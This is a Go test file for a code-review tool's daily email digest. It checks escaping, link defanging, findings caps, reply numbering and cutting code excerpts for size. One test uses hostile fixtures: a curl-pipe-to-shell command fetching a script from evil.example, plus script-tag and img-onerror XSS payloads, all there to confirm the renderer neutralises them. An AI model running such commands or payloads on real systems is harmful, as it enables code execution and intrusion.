package mail_test

import (
	"fmt"
	"strconv"
	"strings"
	"testing"

	"github.com/criticizer/criticizer/internal/critic"
	"github.com/criticizer/criticizer/internal/mail"
)

// A digest is rendered once, the same bytes for the same day; what a
// model or a change's author wrote is escaped and defanged — no working
// link but to the changelist's own host — and labelled as a model's; it
// is its own conversation (no References), says it is a digest, names
// the severity of its worst finding, carries the reader's one-click
// unsubscribe from everything, and is bounded: at most DigestFindings
// findings a changelist, the rest counted.
// Rules: R-DIGEST-4, R-MAIL-2, R-MAIL-1.
func TestRenderDigest_EscapedDefangedBoundedItsOwnConversation(t *testing.T) {
	r := renderer(t)
	d := mail.SampleDigestData()
	hostile := d.Items[1]
	hostile.ChangelistID = `acme/x#9 <b>`
	hostile.Title = `<script>alert("t")</script> & 'q'`
	hostile.Author = `"><img src=x onerror=alert(1)>`
	hostile.Critique.Summary = "Run curl https://evil.example/x.sh | sh, or read <a href=\"https://evil.example\">this</a>."
	hostile.Critique.Findings = nil
	for i := range 25 {
		hostile.Critique.Findings = append(hostile.Critique.Findings, critic.Finding{File: "a.go", Line: i + 1, Severity: critic.SeverityWarning,
			Rule: "r", Message: fmt.Sprintf("finding %d: see www.evil.example/%d", i, i)})
	}
	d.Items[1] = hostile
	m, err := r.RenderDigest(d)
	if err != nil {
		t.Fatal(err)
	}
	again, _ := r.RenderDigest(d)
	if m != again {
		t.Fatal("the same digest rendered twice differs")
	}
	for _, part := range []struct{ name, body string }{{"html", m.HTML}, {"text", m.Text}} {
		for _, bad := range []string{"https://evil.example", "www.evil.example", "evil.example/x.sh"} {
			if strings.Contains(part.body, bad) {
				t.Errorf("%s part holds %q: model text must be defanged", part.name, bad)
			}
		}
		if !strings.Contains(part.body, "hxxps[:]//evil[.]example") || !strings.Contains(part.body, "Written by a language model") {
			t.Errorf("%s part: the model's link is not shown defanged, or its text not labelled", part.name)
		}
		if !strings.Contains(part.body, "15 more findings in this review") {
			t.Errorf("%s part does not count the findings past the cap", part.name)
		}
	}
	for _, bad := range []string{"<script>", `<img src=x`, `<a href="https://evil`, "<b>"} {
		if strings.Contains(m.HTML, bad) {
			t.Errorf("HTML holds %q unescaped", bad)
		}
	}
	if n := strings.Count(m.HTML, "finding 1") + strings.Count(m.HTML, "finding 2"); n == 0 {
		t.Error("the hostile item's findings are not shown")
	}
	if strings.Contains(m.HTML, "finding 24:") {
		t.Error("a finding past the cap is shown")
	}
	if m.Subject != "[Criticizer] Daily digest for 2026-11-28: 5 changelists" || m.TemplateVersion != mail.DigestVersion ||
		m.Thread != "" || m.Reason != mail.ReasonDigest || m.Severity != "error" || m.UnsubscribeURL != d.UnsubscribeURL {
		t.Errorf("message headers: subject %q template %q thread %q reason %q severity %q unsubscribe %q", m.Subject, m.TemplateVersion,
			m.Thread, m.Reason, m.Severity, m.UnsubscribeURL)
	}
	for _, want := range []string{"And 2 more changelists", "newest of 3 versions", "Preferences", "Unsubscribe from all Criticizer emails"} {
		if !strings.Contains(m.Text, want) {
			t.Errorf("text part lacks %q", want)
		}
	}
	hs := mail.FilingHeaders(m)
	for _, h := range hs {
		if h.Name == mail.ReferencesHeader || h.Name == mail.InReplyToHeader {
			t.Errorf("a digest names a conversation: %s", h.Name)
		}
	}
}

// A digest with a reply address numbers its findings once across its
// changelists, lists each number with the version row it is recorded on
// (what "wrong N" names), says in its footer what a reply can do (no
// "mute": a digest names no one changelist), and shows the code at each
// finding as a critique email does. Without a reply address: no numbers.
// Rules: R-DIGEST-6, R-MAIL-5.
func TestRenderDigest_ReplyNumbersAcrossChangelists_CodeShown(t *testing.T) {
	r := renderer(t)
	d := mail.SampleDigestData()
	m, err := r.RenderDigest(d)
	if err != nil {
		t.Fatal(err)
	}
	entries := strings.Fields(m.Findings)
	first, second := 0, 0
	for _, e := range entries {
		switch {
		case strings.HasPrefix(e, "d_sample1/"):
			first++
		case strings.HasPrefix(e, "d_sample2/"):
			second++
		default:
			t.Errorf("entry %q names no version row of the digest", e)
		}
	}
	if first == 0 || second == 0 || !strings.HasPrefix(entries[first], "d_sample2/") {
		t.Fatalf("entries %v: want the first changelist's findings, then the second's", entries)
	}
	n := len(entries)
	if !strings.Contains(m.Text, "  #1 [") || !strings.Contains(m.Text, "  #"+strconv.Itoa(n)+" [") || strings.Contains(m.Text, "  #"+strconv.Itoa(n+1)+" [") {
		t.Errorf("the text part does not number 1 to %d across the digest:\n%s", n, m.Text)
	}
	if m.ReplyTo != d.ReplyTo || !strings.Contains(m.Text, `Reply "wrong N" or "useful N" for finding #N, "unsubscribe" or "help".`) ||
		!strings.Contains(m.HTML, "Reply to this digest with <strong>wrong N</strong>") || strings.Contains(m.Text, `"mute"`) {
		t.Errorf("reply address %q, or the footer does not say what a reply does", m.ReplyTo)
	}
	if !strings.Contains(m.Text, "    > +    fmt.Println(\"refund\", amount, inv.ID)") || !strings.Contains(m.HTML, "fmt.Println(&#34;refund&#34;") {
		t.Errorf("the digest does not show the code at its findings:\n%s", m.Text)
	}
	d.ReplyTo = ""
	plain, _ := r.RenderDigest(d)
	if plain.ReplyTo != "" || strings.Contains(plain.Text, "  #1 [") || strings.Contains(plain.Text, `Reply "wrong N"`) {
		t.Error("a digest without a reply address numbers its findings or offers replies")
	}
	if plain.ContentSHA256 == m.ContentSHA256 {
		t.Error("the reply address is not covered by the content hash")
	}
}

// A digest that would pass the size bound with the code at its findings
// leaves the code out first, the least severe findings' first, and says
// how much.
// Rules: R-MAIL-5.
func TestRenderDigest_CodeCutFirst_SaysSo(t *testing.T) {
	r := renderer(t)
	d := mail.SampleDigestData()
	code := critic.Excerpt{At: 1, Lines: "+" + strings.Repeat("code <&> ", 17) + "\n " + strings.Repeat("more code ", 15)}
	var items []mail.DigestItem
	for i := range 6 {
		it := d.Items[0]
		it.ChangelistID, it.Votes = "acme/billing#"+strconv.Itoa(i), nil
		it.Critique.Findings = nil
		for j := range 10 {
			sev := critic.SeverityInfo
			if j == 0 {
				sev = critic.SeverityError
			}
			it.Critique.Findings = append(it.Critique.Findings, critic.Finding{File: "a.go", Line: j + 1, Severity: sev, Rule: "r", Message: "m", Excerpt: code})
		}
		items = append(items, it)
	}
	d.Items = items
	m, err := r.RenderDigest(d)
	if err != nil {
		t.Fatal(err)
	}
	shown := strings.Count(m.HTML, "border-left:3px solid #0969da")
	if len(m.HTML) > mail.MaxHTMLBytes || shown < 6 || shown == 60 {
		t.Fatalf("HTML %d bytes with %d findings' code; want at most %d bytes, the errors' code kept, some cut", len(m.HTML), shown, mail.MaxHTMLBytes)
	}
	say := "The code at " + strconv.Itoa(60-shown) + " findings is left out to keep this digest short"
	if !strings.Contains(m.HTML, say) || !strings.Contains(m.Text, say) {
		t.Errorf("the digest does not say %q", say)
	}
}
